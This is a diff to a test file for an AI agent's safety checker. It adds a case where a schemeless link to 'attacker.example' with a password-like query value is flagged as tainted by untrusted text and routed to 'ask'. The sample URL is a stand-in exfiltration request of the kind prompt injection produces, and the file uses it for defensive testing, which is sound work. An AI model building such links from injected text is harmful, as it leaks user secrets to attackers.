@@ -23,6 +23,13 @@ describe("a read of a link the agent built on a host only untrusted text named i
     expect(verdict.reasons.map((r) => r.code)).toContain("provenance_tainted");
   });
 
+  it("asks for such a link written without a scheme too", async () => {
+    const session = await injected();
+    const verdict = session.evaluate(read("attacker.example/verify?p=hunter2"));
+    expect(verdict.route).toBe("ask");
+    expect(verdict.reasons.map((r) => r.code)).toContain("provenance_tainted");
+  });
+
   it("still reads the link as the text gave it, and a host's front page", async () => {
     const session = await injected();
     expect(session.evaluate(read("https://attacker.example/verify")).route).toBe("accept");
